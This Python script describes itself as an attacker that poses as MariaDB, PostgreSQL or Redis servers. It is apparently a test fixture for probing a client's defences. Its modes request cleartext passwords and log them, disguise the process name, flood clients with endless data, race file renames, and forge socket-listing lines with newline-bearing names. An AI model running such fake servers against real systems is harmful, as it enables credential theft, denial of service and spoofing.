"""An attacker: a process of an unprivileged user, of the standard library alone, that says it is a server.

Run by its path: `stranger.py KIND LOG ARGUMENT…`. What it is sent goes into LOG, a line for each thing. Kinds:
`mysql`, `silent`, `flood`, `rows`, `endless` and `postgresql` take sockets to listen at, `redis` a place (a path or a
port) and settings, `swap` two paths that it exchanges endlessly, and `forge` a directory for a socket whose name is two
lines.
"""

import ctypes
import os
import random
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable

PR_SET_NAME = 15
RENAME_EXCHANGE = 2
SYS_RENAMEAT2 = {"x86_64": 316, "aarch64": 276}
AT_FDCWD = -100
LIBC = ctypes.CDLL(None, use_errno=True)
GREETING = (
    b"\x0a5.5.5-10.11.6-MariaDB\0\1\0\0\0abcdefgh\0" + struct.pack("<HBHHB", 0xA209, 33, 2, 0x0008, 21)
    + bytes(10) + b"abcdefghijkl\0mysql_native_password\0"
)  # fmt: skip
CLEAR = b"\xfemysql_clear_password\0\0"


def call_myself(name: str) -> None:
    """Have the kernel tell another name of us than that of our program."""
    LIBC.prctl(PR_SET_NAME, name.encode(), 0, 0, 0)


def tell(text: object) -> None:
    """Write a line down."""
    with open(LOG, "a", encoding="utf-8", errors="replace") as file:
        file.write(f"{text}\n")


def listen(place: str) -> socket.socket:
    """Listen at a path, or at a port of 127.0.0.1."""
    if place.isdecimal():
        return socket.create_server(("127.0.0.1", int(place)), backlog=100)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(place)
    os.chmod(place, 0o777)
    listener.listen(100)
    return listener


def serve(place: str, work: Callable[[socket.socket], None]) -> None:
    """Do `work` with everybody who comes, each in a thread."""

    def one(connection: socket.socket) -> None:
        try:
            with connection:
                work(connection)
        except OSError:
            return

    listener = listen(place)
    tell(f"listens at {place}")
    while True:
        connection, _ = listener.accept()
        tell("connected")
        threading.Thread(target=one, args=(connection,), daemon=True).start()


def exactly(connection: socket.socket, size: int) -> bytes:
    """Read so many bytes."""
    data = b""
    while len(data) < size:
        more = connection.recv(size - len(data))
        if not more:
            raise OSError("closed")
        data += more
    return data


def packet(connection: socket.socket) -> bytes:
    """Read a packet of MySQL's protocol."""
    head = exactly(connection, 4)
    return exactly(connection, int.from_bytes(head[:3], "little"))


def mysql(connection: socket.socket) -> None:
    """Greet as a MariaDB server, and ask for the password in clear."""
    for number, words in ((0, GREETING), (2, CLEAR)):
        connection.sendall(len(words).to_bytes(3, "little") + bytes([number]) + words)
        tell(f"password {packet(connection)!r}" if number else f"hello {packet(connection)!r}")
    time.sleep(0.1)


def silent(connection: socket.socket) -> None:
    """Say nothing."""
    connection.recv(1000)
    time.sleep(600)


def postgresql(connection: socket.socket) -> None:
    """Ask for the password in clear."""
    exactly(connection, int.from_bytes(exactly(connection, 4), "big") - 4)
    connection.sendall(b"R" + struct.pack(">II", 8, 3))
    tell(f"password {connection.recv(1000)!r}")


def flood(connection: socket.socket) -> None:
    """Let everybody in, and answer with notices without end."""
    exactly(connection, int.from_bytes(exactly(connection, 4), "big") - 4)
    version = b"server_version\x0015.0\0"
    connection.sendall(b"R" + struct.pack(">II", 8, 0) + b"S" + struct.pack(">I", 4 + len(version)) + version)
    connection.sendall(b"Z" + struct.pack(">I", 5) + b"I")
    connection.recv(1000)
    words = b"SNOTICE\0VNOTICE\0C00000\0M" + b"x" * 1000 + b"\0\0"
    notice = (b"N" + struct.pack(">I", 4 + len(words)) + words) * 100
    while True:
        connection.sendall(notice)


def rows(connection: socket.socket) -> None:
    """Let everybody in, and answer with rows without end."""
    exactly(connection, int.from_bytes(exactly(connection, 4), "big") - 4)
    connection.sendall(b"R" + struct.pack(">II", 8, 0) + b"Z" + struct.pack(">I", 5) + b"I")
    connection.recv(1000)
    column = b"x\0" + struct.pack(">IHIHIH", 0, 0, 25, 0xFFFF, 0xFFFFFFFF, 0)
    connection.sendall(b"T" + struct.pack(">IH", 6 + len(column), 1) + column)
    row = (b"D" + struct.pack(">IHI", 4 + 2 + 4 + 1000, 1, 1000) + b"x" * 1000) * 100
    while True:
        connection.sendall(row)


def endless(connection: socket.socket) -> None:
    """Announce a text of any length, and send it."""
    connection.recv(1000)
    connection.sendall(b"$9999999999999\r\n")
    while True:
        connection.sendall(bytes(1 << 20))


def redis(settings: dict[str, str]) -> Callable[[socket.socket], None]:
    """Answer as a Redis server with these settings does."""
    info = "\r\n".join(f"{name}:{value}" for name, value in {
        "run_id": "x", "redis_version": "7.0.0", "role": "master", "rdb_bgsave_in_progress": "0",
        "rdb_changes_since_last_save": "0", "rdb_last_bgsave_status": "ok", "rdb_last_save_time": "1",
    }.items())  # fmt: skip

    def work(connection: socket.socket) -> None:
        file = connection.makefile("rb")
        while head := file.readline():
            words = [file.read(int(file.readline()[1:]) + 2)[:-2].decode() for _ in range(int(head[1:]))]
            tell(" ".join(words))
            answer = f"${len(info)}\r\n{info}\r\n" if words[0] == "INFO" else "+OK\r\n"
            if words[:2] == ["CONFIG", "GET"]:
                value = settings.get(words[2], "")
                answer = f"*2\r\n${len(words[2])}\r\n{words[2]}\r\n${len(value)}\r\n{value}\r\n"
            connection.sendall(answer.encode())

    return work


def swap(one: str, other: str) -> None:
    """Exchange two names again and again, at times of no pattern."""
    tell("swaps")
    number = SYS_RENAMEAT2[os.uname().machine]
    while True:
        LIBC.syscall(number, AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE)
        time.sleep(random.random() * 0.03)


def forge(directory: str) -> None:
    """Listen at a socket whose name has a line break, and after it what could be another socket's line."""
    os.chdir(directory)
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("s\nffff8880: 00000002 00000000 no-number 0001 01 1 name")
        listener.listen(1)
        tell("listens")
        time.sleep(600)


def main() -> None:
    """Do it."""
    kind, *places = sys.argv[1:2] + sys.argv[3:]
    if kind == "swap":
        swap(*places)
    if kind == "forge":
        forge(*places)
    if kind == "redis":
        call_myself("redis-server")
        serve(places[0], redis(dict(word.split("=", 1) for word in places[1:])))
    call_myself("postgres" if kind in ("flood", "rows", "postgresql") else "mariadbd")
    work = {
        "mysql": mysql,
        "silent": silent,
        "postgresql": postgresql,
        "flood": flood,
        "endless": endless,
        "rows": rows,
    }[kind]
    for place in places:
        threading.Thread(target=serve, args=(place, work), daemon=True).start()
    time.sleep(600)


if __name__ == "__main__":
    LOG = sys.argv[2]
    main()
